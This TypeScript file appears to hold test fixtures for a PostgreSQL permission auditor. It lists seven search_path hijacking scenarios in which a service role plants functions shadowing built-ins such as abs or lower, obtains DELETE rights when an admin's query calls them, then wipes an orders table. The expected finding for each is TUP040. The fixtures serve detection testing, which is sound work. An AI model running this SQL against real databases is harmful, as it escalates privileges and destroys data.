import type { Attack, Step } from './attack';

/** A function of the service's that fits better than the one of pg_catalog, which takes bigint, and does more. */
const trap = (schema: string): Step => [
  'service',
  `create function ${schema}.abs(int) returns int language plpgsql as
    'begin grant delete on {app}.orders to {service}; return $1; end'`,
];
const gone = {
  proof: 'select count(*) = 0 from {app}.orders',
  gain: 'its code runs as the admin, and every order is gone',
};
const sprung = (schema: string): readonly Step[] => [
  trap(schema),
  ['admin', `set local search_path = ${schema}, pg_catalog; select abs(total) from {app}.orders`],
  ['service', 'delete from {app}.orders'],
];

/** What others find in the schemas that they search. */
export const paths: readonly Attack[] = [
  {
    title:
      'CREATE on the schema public, which the policy does not name, and every session searches',
    setup: 'set role {admin}; grant create on schema public to public',
    attack: sprung('public'),
    ...gone,
    outcome: { found: ['TUP040', 'schema public', 'PUBLIC -> granted by pg_database_owner'] },
  },
  {
    title: 'CREATE on the schema public, as PostgreSQL 14 gives it to everybody',
    setup: `grant create on schema public to public; set role {admin}; create table {app}.people (name varchar(50)); insert into {app}.people values ('Ann')`,
    attack: [
      [
        'service',
        `create function public.lower(varchar) returns text language plpgsql as
          'begin grant delete on {app}.orders to {service}; return $1; end'`,
      ],
      ['admin', 'set local search_path to default; select lower(name) from {app}.people'],
      ['service', 'delete from {app}.orders'],
    ],
    ...gone,
    outcome: { found: ['TUP040', 'schema public', 'PUBLIC -> granted by pg_database_owner'] },
  },
  {
    title: 'CREATE on a schema that the database’s search_path names',
    setup: `set role {admin}; create schema {outside}; grant usage, create on schema {outside} to {service};
      alter database {db} set search_path = {outside}, public`,
    attack: sprung('{outside}'),
    ...gone,
    outcome: { found: ['TUP040', 'schema {outside}', '{service} -> granted by {admin}'] },
  },
  {
    title: 'CREATE, through a group, on a schema that the admin’s search_path names',
    setup: `set role {admin}; create schema {outside}; grant usage, create on schema {outside} to {third}; reset role; grant {third} to {service};
      alter role {admin} set search_path = {app}, {outside}`,
    attack: sprung('{outside}'),
    ...gone,
    outcome: {
      found: ['TUP040', 'schema {outside}', '{service} -> member of {third} -> granted by {admin}'],
    },
  },
  {
    title: 'CREATE on a schema with the admin’s name, which its sessions search first',
    setup:
      'create schema {admin} authorization {admin}; grant usage, create on schema {admin} to {service}',
    attack: sprung('{admin}'),
    ...gone,
    outcome: { found: ['TUP040', 'schema {admin}', '{service} -> granted by {admin}'] },
  },
  {
    title: 'CREATE on a schema in the search_path of a function that runs with the admin’s rights',
    setup: `set role {admin}; create schema {outside}; grant usage, create on schema {outside} to {service};
      create function {app}.total() returns bigint language plpgsql security definer set search_path = {outside}, pg_catalog, pg_temp
        as 'begin return (select sum(abs(total)) from {app}.orders); end'`,
    attack: [trap('{outside}'), ['service', 'select {app}.total(); delete from {app}.orders']],
    ...gone,
    outcome: { found: ['TUP040', 'schema {outside}', '{service} -> granted by {admin}'] },
  },
  {
    title: 'CREATE on pg_catalog, which is searched before everything',
    setup: 'grant create on schema pg_catalog to {service}',
    attack: [
      [
        'service',
        `create function pg_catalog.first_of(int) returns int language plpgsql as
          'begin grant delete on {app}.orders to {service}; return $1; end'`,
      ],
      ['admin', 'select first_of(total) from {app}.orders'],
      ['service', 'delete from {app}.orders'],
    ],
    ...gone,
    outcome: { found: ['TUP040', 'schema pg_catalog', '{service} -> granted by postgres'] },
  },
];
